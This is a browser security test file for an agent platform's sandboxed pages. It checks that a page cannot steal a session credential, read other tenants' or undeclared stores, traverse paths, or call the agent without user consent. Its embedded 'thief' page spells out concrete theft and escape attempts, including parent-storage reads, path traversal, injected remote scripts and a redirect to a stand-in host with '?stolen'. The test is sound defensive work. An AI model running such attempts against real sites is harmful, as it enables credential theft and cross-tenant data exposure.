/** What a page of an agent must not reach, in a real browser. */

import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { reply, until } from '@amodal/sdk/testing'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, onTestFinished, test } from 'vitest'
import { openDoor, type Door } from '../security/support/door.ts'
import { as, keyFor, keysOf } from '../security/support/people.ts'
import { findBrowser, openBrowser } from './browser.ts'
import { boardFiles, PagesWindow } from './pages-browser.ts'

const found = await findBrowser()

/** Each attempt shows what it has got, or why it got nothing. */
const THIEF = `
export const page = { name: 'thief', stores: ['zones'] }

const attempts = {
  storage: () => parent.sessionStorage.getItem('amodal.who'),
  ownStorage: () => sessionStorage.getItem('amodal.who'),
  window: () => parent.document.body.innerHTML,
  address: () => parent.location.href,
  cookie: () => document.cookie,
  declared: async () => (await fetch('/api/stores/zones')).status,
  otherStore: async () => (await fetch('/api/stores/alerts')).text(),
  otherTenant: async () => (await fetch('/api/stores/zones?scope_id=beta')).text(),
  above: async () => (await fetch('/api/stores/%2e%2e')).text(),
  aboveBoth: async () => (await fetch('/api/stores/zones/..')).text(),
  write: async () => (await fetch('/api/stores/zones', { method: 'POST', body: '{}' })).text(),
  config: async () => (await fetch('/api/config')).text(),
  away: async () => (await fetch(AWAY)).text(),
  request: () =>
    new Promise((resolve) => {
      const request = new XMLHttpRequest()
      request.onload = () => resolve('loaded ' + request.responseText)
      request.onerror = () => resolve('refused')
      request.open('GET', SERVER + '/api/config')
      request.send()
    }),
  socket: () => String(new WebSocket(SERVER.replace('http', 'ws')).readyState),
  picture: () => loaded(Object.assign(new Image(), { src: SERVER + '/studio/icon.svg' })),
  script: () => {
    const script = Object.assign(document.createElement('script'), { src: AWAY + '/x.js' })
    document.head.append(script)
    return loaded(script)
  },
  frame: () => {
    const frame = Object.assign(document.createElement('iframe'), { src: SERVER + '/' })
    document.body.append(frame)
    return 'document ' + String(frame.contentDocument)
  },
  popup: () => String(window.open(AWAY)),
  top: () => { top.location.href = AWAY; return 'sent' },
  agent: async () => 'asked',
}
const SERVER = 'URL'
const AWAY = 'AWAY_URL'
const loaded = (element) =>
  new Promise((resolve) => {
    element.onload = () => resolve('loaded')
    element.onerror = () => resolve('refused')
  })

export default function Thief() {
  const [got, setGot] = React.useState({})
  React.useEffect(() => {
    for (const [name, attempt] of Object.entries(attempts))
      Promise.resolve()
        .then(attempt)
        .catch((cause) => 'refused: ' + cause.message)
        .then((value) => setGot((now) => ({ ...now, [name]: String(value) })))
  }, [])
  const isDone = Object.keys(got).length === Object.keys(attempts).length
  return (
    <>
      <pre data-done={isDone}>{JSON.stringify(got)}</pre>
      <button onClick={() => { location.href = AWAY + '/?stolen' }}>Leave</button>
    </>
  )
}
`

describe.skipIf(found === undefined)('a page that wants more than it declares', () => {
  let browser: Browser
  let door: Door

  beforeAll(async () => {
    browser = await openBrowser(found ?? { executablePath: '' })
    door = await openDoor({
      files: { ...(await boardFiles()), 'pages/thief.tsx': THIEF },
      script: reply.text('Done.'),
      env: keysOf({
        anna: { tenant: 'acme' },
        bert: { tenant: 'beta' },
        boss: {},
        reader: { tenant: 'acme', scopes: ['sessions'] },
      }),
    })
  })
  afterAll(async () => {
    await browser?.close()
    await door?.[Symbol.asyncDispose]()
  })

  test('gets neither the credential, nor other stores, tenants, sites or routes', async () => {
    const marked = {
      name: 'beta-only',
      title: 'Of beta',
      state: 'ok',
      devices: 1,
      devices_online: 1,
    }
    expect((await door.post('/api/stores/zones', marked, as('bert'))).status).toBe(201)
    const window = await PagesWindow.open(browser, door, keyFor('anna'))
    const arrived: string[] = []
    const away = createServer((request, response) => {
      arrived.push(request.url ?? '')
      response.end()
    }).listen(0, '127.0.0.1')
    onTestFinished(() => void away.close())
    await once(away, 'listening')
    const { port } = away.address() as AddressInfo // it listens on a port
    await window.save(
      'pages/thief.tsx',
      THIEF.replace("'URL'", `'${door.url}'`).replace("'AWAY_URL'", `'http://127.0.0.1:${port}'`),
    )
    await window.go('#/pages/thief')
    const shown = window.frame.locator('pre[data-done="true"]')
    await window.frame.getByText('"agent":"asked"').waitFor()
    await shown.waitFor()
    const got = JSON.parse((await shown.textContent()) ?? '{}') as Readonly<Record<string, string>>
    expect(got['declared']).toBe('200')
    for (const name of ['storage', 'ownStorage', 'window', 'address', 'write', 'config', 'away'])
      expect(got[name], name).toMatch(/^refused/)
    for (const name of ['request', 'picture', 'script']) expect(got[name], name).toBe('refused')
    expect(got['cookie']).toMatch(/^$|^refused/)
    expect(got['otherStore']).toContain('STORE_UNDECLARED')
    expect(got['otherTenant']).not.toContain('Of beta')
    expect(got['above']).not.toContain('documentCount')
    expect(got['aboveBoth']).not.toContain('documentCount')
    expect(got['popup']).toMatch(/^null$|^refused/)
    expect(got['frame']).toBe('document null')
    const { page } = window
    expect(page.url()).toContain(door.url)
    expect(await page.locator('.page-links').count()).toBe(1)
    expect(JSON.stringify(got)).not.toContain(keyFor('anna'))
    // the frame is left with nothing, and nothing of it has arrived
    await window.frame.getByRole('button', { name: 'Leave' }).click()
    await window.frame.getByText('agent').waitFor({ state: 'detached' })
    expect(arrived).toEqual([])
    await window.close()
  })

  test('is refused by the server, too, and reads as the one who asks', async () => {
    const read = (store: string, who: string, query = ''): ReturnType<Door['get']> =>
      door.get(`/api/pages/thief/stores/${store}${query}`, as(who))
    expect((await read('zones', 'anna')).text).not.toContain('Of beta')
    expect((await read('zones', 'bert')).text).toContain('Of beta')
    expect((await read('alerts', 'anna')).status).toBe(403)
    expect((await read('zones', 'boss', '?scope_id=beta')).status).toBe(400)
    expect((await door.get('/api/pages/thief/stores/zones', {})).status).toBe(401)
    expect((await read('zones', 'reader')).status).toBe(403)
    expect((await door.get('/api/pages', as('reader'))).status).toBe(403)
    expect((await door.get('/api/pages/none/stores/zones', as('anna'))).status).toBe(404)
  })

  test('asks the agent only with the consent of the person, and learns nothing of the reply', async () => {
    const window = await PagesWindow.open(browser, door, keyFor('anna'))
    const { page } = window
    const { requests } = door.model
    const before = requests.length
    await window.save(
      'pages/eager.tsx',
      `import { navigate, useSkillAction } from '@amodalai/react'
export const page = { context: { isSelf: 'boolean' } }
export default function Eager({ isSelf }) {
  const triage = useSkillAction('triage')
  React.useEffect(() => { if (isSelf) void triage.invoke({ query: 'On its own' }) }, [])
  React.useEffect(() => { if (isSelf && triage.error) navigate('refused') }, [triage.error])
  return (
    <>
      <p>state {triage.error?.message ?? triage.sessionId ?? 'none'}</p>
      <button onClick={() => triage.invoke({ query: 'Triage all.' })}>Triage</button>
    </>
  )
}`,
    )
    await page.getByRole('link', { name: 'Eager' }).waitFor()
    // In a new document, where nobody has clicked yet. The address is looked at from outside: what
    // the driver evaluates counts as a click.
    await page.goto(`${door.url}/?new#/pages/eager?isSelf=true`)
    await until(() => page.url().endsWith('#/pages/refused'))
    expect(requests).toHaveLength(before)

    await window.go('#/pages/eager')
    await window.frame.getByRole('button', { name: 'Triage' }).click()
    await page.getByRole('heading', { name: 'Eager asks the agent' }).waitFor()
    await page.getByRole('button', { name: 'Cancel' }).click()
    await window.sees(/the person at the page declined/)
    expect(requests).toHaveLength(before)
    await window.frame.getByRole('button', { name: 'Triage' }).click()
    await page.getByRole('button', { name: 'Send' }).click()
    await window.frame.getByText(/^state [0-9a-z_-]{8,}$/i).waitFor()
    // the session is known before its model is called
    await until(() => requests.length > before)
    expect(JSON.stringify(requests[before]?.body)).toContain('Triage all.')
    expect(await window.frame.locator('body').textContent()).not.toContain('Done.')
    await window.close()
  })
})
